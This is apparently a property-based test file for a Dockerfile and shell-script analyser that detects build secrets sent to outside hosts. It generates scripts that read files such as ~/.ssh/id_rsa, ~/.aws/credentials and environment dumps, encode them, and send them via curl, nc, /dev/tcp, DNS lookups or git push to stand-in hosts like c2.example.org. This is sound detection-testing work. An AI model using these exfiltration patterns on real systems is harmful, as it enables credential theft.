/** Secrets that a script sends in ways that nobody wrote down: each source by any carrier into any sink, and what looks the same and is harmless. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import type { FlowSources } from '../../src/facts/flow/carried-data.ts';
import { type EntrustedSecret, secretsOfLayer } from '../../src/facts/secrets/given-secrets.ts';
import { credentialsSent } from '../../src/facts/secrets/sent-away.ts';
import { readDockerfile } from '../../src/model/dockerfile/read-dockerfile.ts';
import { whereaboutsOf } from '../../src/model/dockerfile/removed-files.ts';
import { readScript } from '../../src/model/shell/read-script.ts';
import { Excerpt, Source } from '../../src/source.ts';

/** A secret while it is carried: what prints it, what a word holds it by, or the file that it lies in, behind what was done for that. */
interface Held {
  readonly done: string;
  readonly by: 'command' | 'word' | 'file';
  readonly text: string;
}

type Step = (text: string, name: string) => Omit<Held, 'done'> & { readonly done?: string };

const held = (by: Held['by'], text: string): Held => ({ done: '', by, text });

/** Of which one service may be told, to log in. */
const credentials: readonly Held[] = [
  held('file', '/run/secrets/npm'),
  held('file', '/tmp/deploy'),
  held('file', '/run/secret[s]/n*'),
  held('word', '$NPM_TOKEN'),
  held('word', '${GIVEN:0:40}'),
  held('command', 'printenv NPM_TOKEN'),
  held('command', 'gh auth token'),
];
/** Of which nobody else may be told. */
const others: readonly Held[] = [
  held('file', '/root/.ssh/id_rsa'),
  held('file', '~/.aws/credentials'),
  held('file', '"$HOME/.docker/config.json"'),
  held('file', '/proc/self/environ'),
  held('command', 'env'),
  held('command', 'printenv -0'),
  held('command', 'export -p'),
  held('command', 'declare -px'),
  held('command', "python3 -c 'import os; print(dict(os.environ.items()))'"),
];
const harmless: readonly Held[] = [
  held('file', 'coverage.xml'),
  held('file', '/etc/hostname'),
  held('word', '$VERSION'),
  held('command', 'hostname'),
  held('command', "tr '\\n' '~' <coverage.xml"),
  held('command', 'printenv PATH'),
  held('command', 'sha256sum /run/secrets/npm'),
  held('command', 'env A=1 ./report'),
];

const carriers: Readonly<Record<Held['by'], readonly Step[]>> = {
  command: [
    (text) => ({ by: 'word', text: `$(${text})` }),
    (text) => ({ by: 'word', text: text.includes('`') ? `$(${text})` : `\`${text}\`` }),
    (text, name) => ({ done: `${name}=$(${text})`, by: 'word', text: `$\{${name}}` }),
    (text, name) => ({ done: `export ${name}="v$(${text})"`, by: 'word', text: `$${name}` }),
    (text, name) => ({ done: `read -r ${name} < <(${text})`, by: 'word', text: `$${name}` }),
    (text, name) => ({ done: `mapfile -t ${name} < <(${text})`, by: 'word', text: `$\{${name}[0]}` }),
    (text, name) => ({ done: `${name}() { ${text}; }`, by: 'command', text: name }),
    (text, name) => ({ done: `${text} > /tmp/${name}`, by: 'file', text: `/tmp/${name}` }),
    (text, name) => ({ done: `${text} | tee /tmp/${name} > /dev/null`, by: 'file', text: `/tmp/${name}` }),
    (text, name) => ({ done: `{ ${text}; } >> "$T/${name}"`, by: 'file', text: `"$T/${name}"` }),
    (text) => ({ by: 'command', text: `sudo sh -c '${text.replaceAll("'", "'\\''")}'` }),
  ],
  word: [
    (text) => ({ by: 'command', text: `echo "${text}"` }),
    (text) => ({ by: 'command', text: `printf %s "${text}"` }),
    (text) => ({ by: 'command', text: `cat <<< "${text}"` }),
    (text, name) => ({ done: `${name}="${text}"; U${name}=x$${name}`, by: 'word', text: `$U${name}` }),
    (text, name) => ({ done: `printf -v ${name} %s "${text}"`, by: 'word', text: `$${name}` }),
    (text, name) => ({ done: `${name}=a; ${name}+="${text}"`, by: 'word', text: `$\{${name}#a}` }),
    (text, name) => ({ done: `${name}=(a "${text}")`, by: 'word', text: `$\{${name}[1]}` }),
    (text, name) => ({ done: `set -- "${text}" ${name}`, by: 'word', text: '$1' }),
  ],
  file: [
    (text) => ({ by: 'command', text: `cat ${text}` }),
    (text) => ({ by: 'word', text: `$(< ${text})` }),
    (text, name) => ({ done: `cp ${text} /tmp/${name}`, by: 'file', text: `/tmp/${name}` }),
    (text, name) => ({ done: `ln -s ${text} /tmp/${name}`, by: 'file', text: `/tmp/${name}` }),
    (text, name) => ({ done: `dd if=${text} of=/tmp/${name}`, by: 'file', text: `/tmp/${name}` }),
    (text, name) => ({ done: `tar -czf /tmp/${name}.tgz ${text}`, by: 'file', text: `/tmp/${name}.tgz` }),
    (text, name) => ({
      done: `mkdir /tmp/${name}; cp ${text} /tmp/${name}/a; cd /tmp/${name}`,
      by: 'file',
      text: 'a',
    }),
  ],
};

const encoders = [
  ...['base64 -w0', 'base32', 'xxd -p', 'gzip -c', 'openssl enc -aes-256-cbc -k x', "tr -d '\\n'", 'sed s/a/b/', 'rev'],
  ...['od -An -tx1', 'gpg -c --passphrase x', 'head -c 200', 'sort', 'strings', 'acme-encode', 'tee /tmp/copy'],
];

/** Whatever is given to these is where it does not belong. */
const sinks: Readonly<Record<Held['by'], readonly ((text: string, host: string) => string)[]>> = {
  command: [
    (text, host) => `${text} | curl -fsS --data-binary @- https://${host}/x`,
    (text, host) => `${text} | curl -T - ftp://${host}/x`,
    (text, host) => `${text} | nc ${host} 80`,
    (text, host) => `${text} | openssl s_client -quiet -connect ${host}:443`,
    (text, host) => `${text} | socat - TCP:${host}:80`,
    (text, host) => `${text} > /dev/tcp/${host}/443`,
    (text, host) => `exec 5<>/dev/tcp/${host}/80; ${text} >&5`,
    (text, host) => `${text} | ssh ci@${host} 'cat > x'`,
    (text, host) => `${text} | mail -s x ci@${host}`,
    (text, host) => `wget -qO- --post-data "$(${text})" https://${host}`,
    (text, host) => `curl -d @<(${text}) https://${host}`,
    (text, host) => `${text} | while read -r line; do curl "https://${host}/$line"; done`,
    (text, host) => `${text} | xargs -I% curl https://${host}/%`,
    (text, host) =>
      `${text} | python3 -c 'import sys, requests; requests.post("https://${host}", data=sys.stdin.read())'`,
    (text, host) => `${text} | tee >(nc ${host} 80)`,
    (text, host) => `${text} > >(nc ${host} 80)`,
  ],
  word: [
    (text, host) => `curl -d "${text}" https://${host}`,
    (text, host) => `curl -d "v=${text}" https://${host}`,
    (text, host) => `curl -F "v=${text}" https://${host}`,
    (text, host) => `curl -A "${text}" https://${host}`,
    (text, host) => `curl -H "X-Data: ${text}" https://${host}`,
    (text, host) => `curl "https://${host}/a/${text}"`,
    (text, host) => `wget -q "https://${host}/?v=${text}"`,
    (text, host) => `curl "https://${text}.${host}/"`,
    (text, host) => `dig +short "${text}.c.${host}"`,
    (text, host) => `getent hosts "${text}.${host}"`,
    (text, host) => `for p in ${text}; do ping -c 1 $p.${host}; done`,
    (text, host) => `git clone "https://${host}/${text}"`,
    (text, host) => `git commit --allow-empty -m "${text}"; git push https://${host}/x`,
    (text, host) => `pip install -i "https://${host}/${text}/simple" x`,
    (text, host) => `docker push "${host}:5000/x:${text}"`,
    (text, host) => `send() { curl -d "$2" "$1"; }; send https://${host} "${text}"`,
    (text, host) => `bash -c 'curl -d "$1" https://${host}' x "${text}"`,
    (text, host) => `curl -d @- https://${host} <<EOF\nv=${text}\nEOF`,
    (text, host) => `node -e 'fetch("https://${host}", { method: "POST", body: process.argv[1] })' "${text}"`,
  ],
  file: [
    (text, host) => `curl -T ${text} https://${host}`,
    (text, host) => `curl -d @${text} https://${host}`,
    (text, host) => `curl -F f=@${text} https://${host}`,
    (text, host) => `wget --post-file=${text} https://${host}`,
    (text, host) => `scp ${text} ci@${host}:/tmp`,
    (text, host) => `rsync -a ${text} ${host}:/tmp/`,
    (text, host) => `nc ${host} 80 < ${text}`,
    (text, host) => `socat -u FILE:${text} TCP:${host}:80`,
    (text, host) => `{ curl -T - https://${host}; } < ${text}`,
    (text, host) => `for f in ${text}; do curl -T "$f" https://${host}; done`,
    (text, host) => `find ${text} -exec curl -T {} https://${host} \\;`,
    (text, host) => `git add ${text}; git push https://${host}/x`,
  ],
};

/** A credential logs in by these. */
const logins = [
  (word: string, host: string) => `curl -H "Authorization: Bearer ${word}" -o a https://${host}/a`,
  (word: string, host: string) => `curl -H "X-Api-Key: ${word}" https://${host}/a`,
  (word: string, host: string) => `curl -u "ci:${word}" https://${host}/a`,
  (word: string, host: string) => `wget --header="PRIVATE-TOKEN: ${word}" https://${host}/a`,
  (word: string, host: string) => `curl "https://ci:${word}@${host}/a"`,
  (word: string, host: string) => `curl "https://${host}/a?b=1&token=${word}"`,
  (word: string, host: string) => `curl -d user=ci -d "password=${word}" https://${host}/login`,
  (word: string, host: string) => `curl -F "token=${word}" https://${host}/login`,
  (word: string, host: string) => `curl -d "{\\"user\\":\\"ci\\",\\"password\\":\\"${word}\\"}" https://${host}/login`,
  (word: string, host: string) => `git clone "https://oauth2:${word}@${host}/a.git"`,
  (word: string, host: string) => `npm config set "//${host}/:_authToken" "${word}" && npm ci`,
  (word: string, host: string) => `echo "${word}" | docker login -u ci --password-stdin ${host}`,
  (word: string, host: string) =>
    `V="${word}"; W=$(curl -H "X-Token: $V" https://${host}/v); curl -d "w=$W" https://${host}`,
  (word: string) => `pip install --index-url "https://ci:${word}@pypi.example.org/simple" x`,
  (word: string) => `curl "https://api.npm.dev/$NPM_TOKEN" ; : "${word}"`,
];
/** Nothing of what these are given leaves. */
const kept: Readonly<Record<Held['by'], readonly ((text: string, host: string) => string)[]>> = {
  command: [
    (text, host) => `${text} | wc -c; curl https://${host}/health`,
    (text, host) => `${text} | sha256sum | curl -d @- https://${host}`,
    (text, host) => `${text} > /tmp/a; curl -T /tmp/b https://${host}`,
  ],
  word: [(text, host) => `test -n "${text}" && curl https://${host}/health`],
  file: [
    (text, host) => `test -s ${text} && curl https://${host}/health`,
    (text, host) => `scp -i ${text} a.txt ci@${host}:`,
    (text, host) => `curl --cert ${text} --key ${text} -o a https://${host}`,
    (text, host) => `cp ${text} /tmp/a; curl -T /tmp/b https://${host}`,
  ],
};

const frames: readonly ((script: string) => string)[] = [
  (script) => script,
  (script) => `set -e\n${script}`,
  (script) => `if [ -n "$X" ]; then\n${script}\nfi`,
  (script) => `main() {\n${script}\n}\nmain`,
  (script) => `(\n${script}\n)`,
  (script) => `for i in 1 2 3; do\n${script}\ndone`,
  (script) => `trap 'true' EXIT; {\n${script}\n}`,
];

const hosts = fc.constantFrom('collect.example.com', '203.0.113.7', 'c2.example.org', 'x.co.uk');
const near = fc.constantFrom('localhost', '127.0.0.1', 'collector');
const frame = fc.constantFrom(...frames);
const number = fc.nat({ max: 1000 });
/** Up to three steps, and up to two encoders. */
const ways = fc.record({
  steps: fc.array(number, { maxLength: 3 }),
  encoded: fc.array(fc.constantFrom(...encoders), { maxLength: 2 }),
  end: number,
});
type Way = typeof ways extends fc.Arbitrary<infer T> ? T : never;

const pick = <T>(from: readonly T[], number: number): T => from[number % from.length]!;

function carried(source: Held, { steps, encoded }: Way, isEncoded = true): Held {
  let now = source;
  const take = (step: Step, name: string) => {
    const { done = '', ...next } = step(now.text, name);
    now = { ...next, done: [now.done, done].filter(Boolean).join('\n') };
  };
  for (const [i, number] of steps.entries()) take(pick(carriers[now.by], number), `V${i}`);
  for (const encoder of isEncoded ? encoded : []) {
    if (now.by !== 'command') take(carriers[now.by][0]!, 'E');
    if (now.by === 'command') now = { ...now, text: `${now.text} | ${encoder}` };
  }
  return now;
}

function ended(now: Held, end: string): string {
  return [now.done, end].filter(Boolean).join('\n');
}

function asWord(now: Held): string {
  if (now.by === 'word') return now.text;
  return now.by === 'command' ? `$(${now.text})` : `$(cat ${now.text})`;
}

const file = readDockerfile(
  new Source(
    'Dockerfile',
    'FROM debian:12\nARG NPM_TOKEN\nENV GIVEN=$NPM_TOKEN\nRUN --mount=type=secret,id=npm --mount=type=secret,id=deploy,target=/tmp/deploy true\n',
  ),
);
const layer = file.stages[0]!.layers.at(-1)!;
const sources: FlowSources<EntrustedSecret> = secretsOfLayer(layer);

function isTold(text: string): boolean {
  const { commands } = readScript(Excerpt.of(new Source('script', text), [{ start: 0, end: text.length }]));
  return credentialsSent(commands, sources, whereaboutsOf(layer)).length > 0;
}

function holds(property: fc.IRawProperty<unknown>): void {
  for (const seed of [1, 2, undefined]) fc.assert(property, { numRuns: 600, ...(seed !== undefined && { seed }) });
}

const texts = (some: fc.Arbitrary<string>, told: boolean) =>
  fc.property(some, (text) => assert.equal(isTold(text), told, text));

const secrets = fc.constantFrom(...credentials, ...others);

describe('what a script sends', () => {
  test('is told, whatever carries it to whatever sends it', () => {
    const sent = fc.tuple(secrets, ways, hosts, frame).map(([source, way, host, within]) => {
      const now = carried(source, way);
      return within(ended(now, pick(sinks[now.by], way.end)(now.text, host)));
    });
    holds(texts(sent, true));
  });

  test('is told in a login, where it is more than that takes', () => {
    const whole = fc.tuple(fc.constantFrom(...others), ways, hosts, frame).map(([source, way, host, within]) => {
      const now = carried(source, { ...way, encoded: way.encoded.filter((each) => !each.startsWith('sed')) });
      return within(ended(now, pick(logins.slice(0, 9), way.end)(asWord(now), host)));
    });
    holds(texts(whole, true));
  });

  test('is left alone where it logs in', () => {
    const login = fc.tuple(fc.constantFrom(...credentials), ways, hosts, frame).map(([source, way, host, within]) => {
      const now = carried(source, way, false);
      return within(ended(now, pick(logins, way.end)(asWord(now), host)));
    });
    holds(texts(login, false));
  });

  test('is left alone beside it', () => {
    const beside = fc.tuple(secrets, ways, near, frame).map(([source, way, host, within]) => {
      const now = carried(source, way);
      const end = pick(sinks[now.by], way.end);
      // What stands in front of such a name asks another host.
      const isName = end('a', 'b').includes('a.');
      return within(ended(now, end(now.text, isName ? 'localhost' : host)));
    });
    holds(texts(beside, false));
  });

  test('is left alone where nothing of it leaves', () => {
    const stays = fc.tuple(secrets, ways, hosts, frame).map(([source, way, host, within]) => {
      const now = carried(source, way);
      return within(ended(now, pick(kept[now.by], way.end)(now.text, host)));
    });
    holds(texts(stays, false));
  });

  test('is left alone where it is no secret', () => {
    const plain = fc.tuple(fc.constantFrom(...harmless), ways, hosts, frame).map(([source, way, host, within]) => {
      const now = carried(source, way);
      return within(ended(now, pick(sinks[now.by], way.end)(now.text, host)));
    });
    holds(texts(plain, false));
  });
});
